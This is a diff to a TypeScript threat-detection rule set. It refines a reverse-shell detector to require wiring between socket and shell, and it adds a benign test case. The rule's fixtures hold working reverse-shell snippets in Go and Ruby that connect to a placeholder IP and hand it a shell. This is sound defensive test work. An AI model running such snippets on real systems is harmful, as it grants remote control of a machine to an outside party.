@@ -754,7 +754,8 @@ const rules: ThreatRule<CodeContext>[] = [
       if (r !== null) return r;
       // any language: an outbound connection plus a spawned shell in the same snippet
       const t = ctx.text.length > 16384 ? ctx.text.slice(0, 16384) : ctx.text;
-      if (OUT_CONNECT.test(t) && SHELL_SPAWN.test(t)) return 'outbound socket plus a spawned shell (reverse shell)';
+      // (the socket's streams must reach the process: a health check beside a build script is not a shell)
+      if (OUT_CONNECT.test(t) && SHELL_SPAWN.test(t) && ctx.frame.objects.has('wiring')) return 'outbound socket plus a spawned shell (reverse shell)';
       return null;
     },
     examples: {
@@ -765,7 +766,7 @@ const rules: ThreatRule<CodeContext>[] = [
         'c, _ := net.Dial("tcp", "198.51.100.9:8443")\ncmd := exec.Command("/bin/bash")\ncmd.Stdin, cmd.Stdout = c, c\ncmd.Run()',
         's = TCPSocket.open("198.51.100.9", 9001)\nwhile l = s.gets do s.puts IO.popen(l).read end',
       ],
-      pass: ['server = socket.socket(); server.bind(("0.0.0.0", 8000)); server.listen()', 'const child = spawn("node", ["worker.js"]);', 'conn, err := net.Dial("tcp", "db:5432")\nout, _ := exec.Command("pg_isready").Output()'],
+      pass: ['server = socket.socket(); server.bind(("0.0.0.0", 8000)); server.listen()', 'const child = spawn("node", ["worker.js"]);', "const s = net.connect(5432, 'db.internal');\ns.on('data', log);\nconst p = spawn('/bin/sh', ['-c', 'pg_isready']);", 'conn, err := net.Dial("tcp", "db:5432")\nout, _ := exec.Command("pg_isready").Output()'],
     },
   },
   {
